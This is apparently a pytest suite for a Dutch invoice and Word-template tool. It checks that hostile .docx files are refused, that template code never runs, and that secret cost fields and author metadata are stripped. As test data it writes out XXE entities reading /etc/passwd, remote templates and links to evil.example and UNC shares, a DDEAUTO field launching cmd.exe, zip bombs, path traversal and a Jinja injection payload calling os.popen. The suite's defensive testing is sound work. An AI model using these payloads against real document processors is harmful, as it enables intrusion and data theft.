# ruff: noqa: E501
"""A malicious Word file is refused in one sentence, and nothing in a template is executed, fetched or left behind."""

import io
import re
import zipfile

import pytest

from houvast.demo.write_docx import WordFile, docx, paragraph, run, table
from houvast.facts.text import Text
from houvast.formats.word import WordLine, WordValues, fill, look
from houvast.formats.word.template import refusal_in_words
from houvast.formats.word_texts import WORD
from houvast.formats.xml_guard import Refused

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PLAIN = docx(WordFile([paragraph("Beste {{klant}}")], header=[paragraph("{{bedrijf}}")]))
VALUES = WordValues({"customer.name": "Peeters & Zonen", "firm.name": "Nele bv", "number": "O-1"})


def changed(**parts: str | bytes | tuple[str, str]) -> bytes:
    """The plain file with parts set, or changed by (old, new)."""
    names = {"document": "word/document.xml", "rels": "word/_rels/document.xml.rels", "types": "[Content_Types].xml"}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(PLAIN)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        told = {names.get(name, name): value for name, value in parts.items()}
        for name in old.namelist():
            data: str | bytes = old.read(name)
            change = told.pop(name, None)
            if isinstance(change, tuple):
                data = old.read(name).decode().replace(*change)
            elif change is not None:
                data = change
            new.writestr(name, data)
        for name, extra in told.items():
            assert not isinstance(extra, tuple)
            new.writestr(name, extra)
    return out.getvalue()


def arrow(kind: str, target: str, *, external: bool = True) -> tuple[str, str]:
    mode = ' TargetMode="External"' if external else ""
    return (
        "</Relationships>",
        f'<Relationship Id="rX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>',
    )


def field(instruction: str) -> tuple[str, str]:
    half = len(instruction) // 2
    told = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{instruction[:half]}</w:instrText></w:r><w:r><w:instrText>{instruction[half:]}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return ("<w:body>", f"<w:body><w:p>{told}</w:p>")


def bomb() -> bytes:
    return changed(**{"word/media/a.bin": b"\0" * 61_000_000})


def many() -> bytes:
    return changed(**{f"word/media/{n}.bin": b"" for n in range(2_001)})


DOCTYPE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document'
HOSTILE = {
    "no zip": (b"hello", "word_broken"),
    "old or locked": (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "word_old"),
    "a zip of something else": (changed(types="<Types/>"), "word_other"),
    "broken list of arrows": (changed(rels="<Relationships><a"), "word_broken"),
    "broken list of contents": (changed(types="x"), "word_broken"),
    "cut off": (PLAIN[: len(PLAIN) // 2], "word_broken"),
    "entities": (changed(document=("<w:document", DOCTYPE)), "word_entities"),
    "entities in a part nobody reads": (changed(**{"word/x.xml": "<!DOCTYPE a><a/>"}), "word_entities"),
    "hidden encoding": (changed(**{"word/x.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>'}), "word_entities"),
    "bomb": (bomb(), "word_bomb"),
    "too many parts": (many(), "word_bomb"),
    "too many elements": (changed(**{"word/x.xml": f"<a>{'<b/>' * 500_001}</a>"}), "word_bomb"),
    "macros by name": (changed(**{"word/vbaProject.bin": b"x"}), "word_macros"),
    "macros by type": (changed(types=("document.main", "document.macroEnabled.main")), "word_macros"),
    "macros by arrow": (changed(rels=arrow("vbaProject", "a.bin", external=False)), "word_macros"),
    "OLE": (changed(rels=arrow("oleObject", "embeddings/a.bin", external=False)), "word_inside"),
    "a workbook inside": (changed(rels=arrow("package", "embeddings/a.xlsx", external=False)), "word_inside"),
    "ActiveX": (changed(rels=arrow("control", "activeX/a.xml", external=False)), "word_inside"),
    "HTML inside": (changed(rels=arrow("aFChunk", "a.html", external=False)), "word_inside"),
    "template from the internet": (changed(rels=arrow("attachedTemplate", "https://evil.example/t.dotm")), "word_template"),
    "template from another computer": (changed(rels=arrow("attachedTemplate", r"\\evil\share\t.dotx")), "word_template"),
    "template by file url of a server": (changed(rels=arrow("attachedTemplate", "file://evil/t.dotx")), "word_template"),
    "linked picture": (changed(rels=arrow("image", "http://evil.example/a.png")), "word_link"),
    "linked file": (changed(rels=arrow("image", "file:///etc/passwd")), "word_link"),
    "link that runs": (changed(rels=arrow("hyperlink", "javascript:alert(1)")), "word_link"),
    "link to a share": (changed(rels=arrow("hyperlink", r"\\evil\share")), "word_link"),
    "unknown part": (changed(rels=arrow("strange", "a.xml", external=False)), "word_part"),
    "entities in a part under another name": (changed(**{"word/theme.dat": "<!DOCTYPE a><a/>"}), "word_entities"),
    "old drawing from elsewhere": (changed(document=("<w:body>", '<w:body><w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/a.png"/></w:pict></w:r></w:p>')), "word_link"),
    "SVG that fetches": (changed(**{"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/a.png"/></svg>'}), "word_link"),
    "SVG that styles from elsewhere": (changed(**{"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "x"</style></svg>'}), "word_link"),
    "link field to a share": (changed(document=field('HYPERLINK "file://evil/share"')), "word_link"),
    "DDE": (changed(document=field("DDEAUTO c:\\windows\\cmd.exe")), "word_field"),
    "include": (changed(document=field(" INCLUDETEXT file:///etc/passwd ")), "word_field"),
    "include picture": (changed(document=field(' INCLUDEPICTURE "http://evil.example/a.png" ')), "word_field"),
    "quote that builds a field": (changed(document=field("QUOTE 68 68 69")), "word_field"),
    "macro button": (changed(document=field("MACROBUTTON Run klik")), "word_field"),
    "path out of the file": (changed(**{"word/../../evil.xml": "<a/>"}), "word_broken"),
    "strict": (changed(document=("schemas.openxmlformats.org/wordprocessingml/2006/main", "purl.oclc.org/x")), "word_strict"),
}  # fmt: skip


@pytest.mark.parametrize(("data", "code"), HOSTILE.values(), ids=list(HOSTILE))
def test_a_malicious_file_is_refused_with_its_reason(data: bytes, code: str) -> None:
    with pytest.raises(Refused) as refusal:
        look(data)
    assert refusal.value.code == code
    with pytest.raises(Refused):
        fill(data, VALUES)


@pytest.mark.parametrize("language", ["nl", "en"])
def test_every_refusal_is_one_sentence(language: str) -> None:
    values = dict.fromkeys(("target", "field", "part", "written"), "x")
    for code in (code for code in WORD if code.startswith("word_")):
        said = refusal_in_words(Refused(code, **values), "nl" if language == "nl" else "en")
        assert re.search(r"[.!?]\s", said.replace("(.doc)", "").replace("/", " ")) is None
        assert said.endswith(".")


CODE = ("{{ klant.__class__ }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% for a in b %}", "{{ 'a'*10**10 }}",
        "{{ klant|upper }}", "{{ 7*7 }}", "{{ range(10**9) }}", "{# noot #}", "{{ klant", "klant }}")  # fmt: skip


@pytest.mark.parametrize("written", CODE)
def test_code_in_a_template_is_never_run_but_refused(written: str) -> None:
    with pytest.raises(Refused) as refusal:
        fill(docx(WordFile([paragraph(f"Beste {written}")])), VALUES)
    assert refusal.value.code == "word_code_name"


@pytest.mark.parametrize(
    "name",
    ["marge", "Marge %", "lijn.marge", "inkoop", "inkoopprijs", "lijn.kost", "kostprijs", "kosten", "cost", "line.unitcost",
     "winst", "profit", "purchase_price", "uurkost", "aankoopprijs", "mareg", "inkop", "margin", "lijn.inkoopprijs"],
)  # fmt: skip
@pytest.mark.parametrize("write", ["{{%s}}", "{%s}", "<<%s>>", "«%s»"])
def test_a_placeholder_about_cost_purchase_or_margin_is_refused(name: str, write: str) -> None:
    data = docx(WordFile([paragraph(write % name)]))
    assert [one.status for one in look(data).found] == ["refused"]
    with pytest.raises(Refused) as refusal:
        fill(data, VALUES)
    assert refusal.value.code == "word_refused_name"


def test_her_own_answer_cannot_make_a_secret_a_field() -> None:
    data = docx(WordFile([paragraph("{{marge}}")]))
    assert look(data, {"marge": "total_net"}).found[0].status == "refused"


def test_text_of_a_customer_that_looks_like_a_placeholder_stays_text() -> None:
    filled = fill(PLAIN, WordValues({"customer.name": "{{bedrijf}} {% x %} <w:p/> & \x00\x0b", "firm.name": "Nele"}))
    with zipfile.ZipFile(io.BytesIO(filled)) as file:
        assert "{{bedrijf}} {% x %} &lt;w:p/&gt; &amp; <" in file.read("word/document.xml").decode()


def test_nothing_of_author_comments_changes_or_properties_is_left() -> None:
    body = paragraph(
        '<w:del w:id="1" w:author="Jan"><w:r><w:delText>marge 40 %</w:delText></w:r></w:del>',
        '<w:ins w:id="2" w:author="Jan"><w:r><w:t>Beste {{klant}}</w:t></w:r></w:ins>',
        '<w:r><w:commentReference w:id="0"/></w:r>',
    )
    settings = (
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        f'xmlns:r="{OFFICE}"><w:attachedTemplate r:id="rId1"/><w:mailMerge/><w:rsids/>'
        '<w:docVars><w:docVar w:name="inkoop" w:val="geheim"/></w:docVars></w:settings>'
    )
    relations = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{OFFICE}/attachedTemplate" Target="file:///C:\\Users\\Jan\\offerte.dotx" TargetMode="External"/></Relationships>'
    )
    more = {
        "word/comments.xml": '<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": relations,
        "customXml/item1.xml": "<geheim/>",
        "docProps/custom.xml": "<Properties>geheim</Properties>",
        "docProps/app.xml": "<Properties><Manager>Jan</Manager></Properties>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/styles" Target="styles.xml"/>'
        f'<Relationship Id="rId2" Type="{OFFICE}/settings" Target="settings.xml"/>'
        f'<Relationship Id="rId3" Type="{OFFICE}/comments" Target="comments.xml"/>'
        f'<Relationship Id="rId4" Type="{OFFICE}/customXml" Target="../customXml/item1.xml"/></Relationships>',
    }  # fmt: skip
    filled = fill(docx(WordFile([body], author="Jan Janssens", more=more)), VALUES)
    with zipfile.ZipFile(io.BytesIO(filled)) as file:
        names, everything = (
            file.namelist(),
            b"".join(file.read(name) for name in file.namelist()).decode("utf-8", "replace"),
        )
    assert [name for name in names if re.search("comments|custom|app.xml|settings.xml.rels", name)] == []
    assert [word for word in ("Jan", "geheim", "marge", "offerte.dotx", "mailMerge") if word in everything] == []
    assert "Beste " in everything


def test_a_row_with_a_book_in_it_is_not_written_for_every_line() -> None:
    data = docx(WordFile([table((80,), [[paragraph("{{lijn.omschrijving}}", run("x" * 5_000_000))]])]))
    with pytest.raises(Refused) as refusal:
        fill(data, WordValues({}, tuple(WordLine(text="a") for _ in range(400))))
    assert refusal.value.code == "word_bomb"


def test_every_text_is_there_in_both_languages() -> None:
    assert all(isinstance(text, Text) and text.nl and text.en for text in WORD.values())
